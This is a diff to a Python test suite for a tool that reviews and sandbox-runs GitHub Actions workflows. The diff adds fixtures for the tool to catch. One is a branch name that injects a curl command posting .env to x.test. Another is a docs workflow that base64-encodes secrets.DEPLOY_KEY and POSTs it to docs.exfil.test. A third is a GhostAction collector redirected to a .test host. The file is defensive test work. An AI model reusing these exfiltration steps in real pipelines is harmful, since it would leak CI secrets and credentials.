@@ -515,6 +515,52 @@ OLD_PIN = "11bd71901bbe5b1630ceea73d27597364c9af683"
 NEW_PIN = "08eba0b27e820071cde6df949e0beb9ba4906955"
 HOSTILE_BRANCH = "$({curl,-d,@.env,x.test})"
 WITH_CI = {".github/workflows/greet.yml": GREET, ".github/workflows/ci.yml": CI_YML}
+# GhostAction's collector, moved under `.test` (its step now runs: traffic stays here).
+GHOSTACTION = (
+    (WORKFLOW_SAMPLES / "ghostaction.yml")
+    .read_text()
+    .replace("bold-dhawan.45-139-104-115.plesk.page", "bold-dhawan.exfil.test")
+)
+# A push workflow whose step sends a secret the way the reading rules do not name: into a
+# file, base64, then out with Python, to an address an earlier step set through
+# GITHUB_ENV. Only running the job, as the runner runs it, catches it.
+DEPLOY_DOCS = """\
+name: Docs
+on:
+  push:
+    branches: [main]
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
+      - name: Configure
+        run: echo "DOCS_URL=https://docs.exfil.test/p" >> "$GITHUB_ENV"
+      - name: Publish docs
+        env:
+          KEY: ${{ secrets.DEPLOY_KEY }}
+        run: |
+          printf %s "$KEY" | base64 -w0 > .stamp
+          python3 -c "import os, urllib.request as u
+          u.urlopen(os.environ['DOCS_URL'], data=open('.stamp', 'rb').read(), timeout=20)"
+"""
+# Its benign twin: only emulated actions, and a step that says ok.
+DOCS_OK = """\
+name: Docs
+on: [push, workflow_dispatch]
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
+      - uses: actions/setup-python@a26af69be951a213d495a4c3e4e4022e16d87065 # v5.6.0
+        with: {python-version: "3.12"}
+      - uses: actions/cache@5a3ec84eff668545956fd18022155c47e93e2684 # v4.2.3
+        with: {path: ~/.cache/pip, key: "pip-${{ hashFiles('requirements.txt') }}"}
+      - run: echo ok
+      - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2
+        with: {name: docs, path: site/}
+"""
 
 CASES: dict[str, Case] = {
     "checkout-token": Case(scripted(), {"ci/test.sh": CHECKOUT_TOKEN_THEFT}),
@@ -577,14 +623,18 @@ CASES: dict[str, Case] = {
     "workflow-attacks": Case(
         {**scripted(), **WITH_CI},
         {
-            ".github/workflows/security.yml": (WORKFLOW_SAMPLES / "ghostaction.yml").read_text(),
+            ".github/workflows/security.yml": GHOSTACTION,
+            ".github/workflows/docs.yml": DEPLOY_DOCS,
             ".github/workflows/preview.yml": (WORKFLOW_SAMPLES / "pwn-request.yml").read_text(),
         },
         branch=HOSTILE_BRANCH,
     ),
     "workflow-pin-bump": Case(
         {**scripted(), **WITH_CI},
-        {".github/workflows/ci.yml": CI_YML.replace(OLD_PIN, NEW_PIN)},
+        {
+            ".github/workflows/ci.yml": CI_YML.replace(OLD_PIN, NEW_PIN),
+            ".github/workflows/docs.yml": DOCS_OK,
+        },
         branch="deps/bump-checkout",
     ),
 }
@@ -1066,10 +1116,21 @@ def test_workflows_that_send_a_secret_build_the_head_or_run_the_branch_name_bloc
     reviews: Reviews,
 ) -> None:
     review = reviews.get("workflow-attacks")
+    # decoy-egress too: the changed push jobs ran (test below); and GhostAction's first
+    # step sets CACHE_BUST, not a data-only name, for the job's later steps.
     assert_blocked(
-        review, "workflow-secret-egress", "workflow-untrusted-checkout", "workflow-injection"
+        review,
+        "workflow-secret-egress",
+        "workflow-untrusted-checkout",
+        "workflow-injection",
+        "decoy-egress",
+        "workflow-command-write",
     )
-    by_rule = {f["rule"]: f for f in review.verdict["findings"] if f["severity"] == "critical"}
+    by_rule = {
+        f["rule"]: f
+        for f in review.verdict["findings"]
+        if f["severity"] == "critical" and f["check"] == "workflows"
+    }
     # Each names the workflow and the line, and rests on the workflows check's evidence.
     secret = by_rule["workflow-secret-egress"]
     assert ".github/workflows/security.yml line 16" in secret["title"], secret
@@ -1091,14 +1152,54 @@ def test_workflows_that_send_a_secret_build_the_head_or_run_the_branch_name_bloc
     assert_whole(review)
 
 
+def test_a_push_job_that_sends_a_secret_base64_from_a_file_is_run_and_blocks(
+    reviews: Reviews,
+) -> None:
+    review = reviews.get("workflow-attacks")
+    # The reading rules do not name this sender (printf into a file, then Python): the
+    # job ran in the smoke check, with the decoys for secrets, and its request is evidence.
+    secret_egress = findings(review, "workflow-secret-egress")
+    assert all("docs.yml" not in f["title"] for f in secret_egress), secret_egress
+    hits = findings(review, "decoy-egress")
+    assert {h["check"] for h in hits} == {"smoke"}, hits
+    sent = {
+        e["host"]: e
+        for h in hits
+        for e in h["evidence"]
+        if e["id"].startswith("smoke:egress:") and e["method"] == "POST"
+    }
+    docs = sent["docs.exfil.test"]
+    # secrets.DEPLOY_KEY stands for the run's SSH key decoy; it left base64-encoded.
+    assert docs["decoy_seen"] == ["SSH_PRIVATE_KEY"], docs
+    assert any(w.startswith("body:base64") for w in docs["decoy_where"]), docs
+    # GhostAction's own step ran too: PYPI_API_TOKEN is the OAuth token decoy.
+    assert sent["bold-dhawan.exfil.test"]["decoy_seen"] == ["GH_OAUTH_TOKEN"], sent
+    smoke = review.report("smoke")
+    # Each step's command names its workflow, job and step; what was emulated is said.
+    labels = [c["cmd"].splitlines()[0] for c in smoke["commands"]]
+    assert "# .github/workflows/docs.yml · job publish · step 3: Publish docs" in labels, labels
+    steps = [o["detail"] for o in smoke["observations"] if o["kind"] == "workflow_step"]
+    assert any("docs.yml, job `publish`, step 1" in d and "emulated" in d for d in steps), steps
+    # Its address came from the step before, through GITHUB_ENV, as the runner carries it.
+    assert any("step 3 `Publish docs`: ran" in d and "exit 0" in d for d in steps), steps
+    jobs = [o["detail"] for o in smoke["observations"] if o["kind"] == "workflow_job"]
+    assert any("job `publish` (on push" in d and "DEPLOY_KEY" in d for d in jobs), jobs
+    # The pull_request_target job ran as such a job runs, after the merge too.
+    assert any("job `preview` (on pull_request_target" in d for d in jobs), jobs
+    # The decoy itself is nowhere in the report: the script held it, not the command.
+    assert "DEPLOY_KEY" not in "".join(c["cmd"] for c in smoke["commands"])
+    assert_whole(review)
+
+
 def test_an_action_pin_bumped_from_an_ordinary_branch_is_listed_not_blocked(
     reviews: Reviews,
 ) -> None:
     review = reviews.get("workflow-pin-bump")
     assert review.code == 0, str(review)
     assert review.verdict["state"] == "clean", str(review)
-    [change] = review.verdict["findings"]
-    assert (change["rule"], change["severity"]) == ("workflow-change", "warn"), change
+    by_path = {f["title"].split("changed: ")[0]: f for f in review.verdict["findings"]}
+    assert {(f["rule"], f["severity"]) for f in by_path.values()} == {("workflow-change", "warn")}
+    [change] = [f for f in review.verdict["findings"] if "ci.yml" in f["title"]]
     assert f"`actions/checkout@{OLD_PIN}` → `@{NEW_PIN}`" in change["title"], change
     # The base's greeting reads this branch's name too: read, found harmless.
     sinks = [
@@ -1107,4 +1208,15 @@ def test_an_action_pin_bumped_from_an_ordinary_branch_is_listed_not_blocked(
         if o["kind"].startswith("workflow_pr_")
     ]
     assert [(o["kind"], o["line"]) for o in sinks] == [("workflow_pr_branch_double", 9)], sinks
+    # Both changed push workflows ran in the smoke check; the report says which steps ran.
+    smoke = review.report("smoke")
+    steps = [o["detail"] for o in smoke["observations"] if o["kind"] == "workflow_step"]
+    docs = [d for d in steps if d.startswith(".github/workflows/docs.yml, job `build`")]
+    assert [d.split(": ", 1)[1].split(":")[0] for d in docs] == [
+        "emulated", "emulated", "emulated", "ran `echo ok` with `bash -e {0}`", "emulated",
+    ], docs  # fmt: skip
+    assert "exit 0" in docs[3], docs
+    assert "`site/`" in docs[4], docs
+    assert "docs.yml#build" in smoke["summary"], smoke["summary"]
+    assert smoke["status"] == "ok", smoke
     assert_whole(review)
